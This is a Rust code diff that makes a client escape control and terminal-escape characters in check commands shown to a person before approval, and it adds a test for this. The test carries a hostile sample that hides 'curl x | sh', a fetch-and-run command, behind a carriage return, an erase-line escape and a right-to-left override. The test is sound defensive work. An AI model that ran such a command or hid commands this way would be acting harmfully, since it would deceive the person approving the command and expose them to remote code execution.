@@ -12,7 +12,7 @@ use super::error::{ClientError, at};
 use super::files::{read_json, write_json, write_private};
 use super::layout::Place;
 use super::manifest::Requirement;
-use crate::sys::clock;
+use crate::sys::{clock, terminal};
 
 /// Longest time a check may take.
 const CHECK_TIME: Duration = Duration::from_secs(60);
@@ -89,17 +89,18 @@ impl Requirement {
             line.push_str(": ");
             line.push_str(prompt);
         }
-        line.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
+        terminal::line(&line).into_owned()
     }
 
-    /// What will be run to check it, for the person to see first.
+    /// What will be run to check it, for the person to see first: every character of it, on one line.
     pub fn shown_check(&self) -> String {
-        match (self.kind.as_str(), &self.check) {
+        let check = match (self.kind.as_str(), &self.check) {
             ("env", check) => format!("the variable {} is set", check.as_deref().unwrap_or(&self.name)),
             ("binary", None) => format!("the program {} is on PATH", self.name),
             (_, Some(check)) => check.clone(),
             (_, None) => "nothing to run; you say whether it is done".to_owned(),
-        }
+        };
+        terminal::line(&check).into_owned()
     }
 
     /// Whether a person has to say so because nothing can be run.
@@ -191,6 +192,13 @@ mod tests {
         offs.add(&first);
         assert!(offs.unmet(std::slice::from_ref(&first)).is_empty());
         assert_eq!(offs.unmet(&[item("KEY", "env", Some("OTHER"))]).len(), 1);
+    }
+
+    #[test]
+    fn nothing_of_a_check_is_hidden_from_the_person_who_allows_it() {
+        let hiding = item("s\u{1b}[8m", "service", Some("true\r\u{1b}[2Kcurl x | sh\n\u{202e}"));
+        assert_eq!(hiding.shown_check(), "true\\r\\u{1b}[2Kcurl x | sh\\n\\u{202e}");
+        assert_eq!(hiding.line(), "s\\u{1b}[8m (service)");
     }
 
     #[tokio::test]
